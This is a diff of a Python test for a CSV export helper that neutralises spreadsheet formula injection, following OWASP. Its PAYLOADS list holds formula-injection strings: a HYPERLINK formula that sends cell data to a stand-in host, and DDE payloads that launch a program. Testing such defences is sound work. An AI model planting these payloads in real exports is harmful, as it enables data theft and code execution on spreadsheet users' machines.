@@ -5,14 +5,16 @@ import csv
 import io
 
 from gitrepo import GitRepo
-from pipeline.outputs.csvcell import FORMULA_STARTS, safe_cell
 from site_helpers import NOW, build, project_policy, run_cli, synthetic_complaint, write_repo
 
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")   # OWASP: what a spreadsheet reads as a formula
 PAYLOADS = ['=HYPERLINK("http://jahat.example/?x="&A1,"klik")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
             "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
 
 
 def test_safe_cell_follows_owasp():
+    from pipeline.outputs.csvcell import FORMULA_STARTS as ours, safe_cell
+    assert ours == FORMULA_STARTS
     assert [safe_cell(p)[0] for p in PAYLOADS] == ["'"] * len(PAYLOADS)
     assert safe_cell("Antrean lama") == "Antrean lama" and safe_cell(3) == 3
     assert safe_cell("'=x") == "'=x"
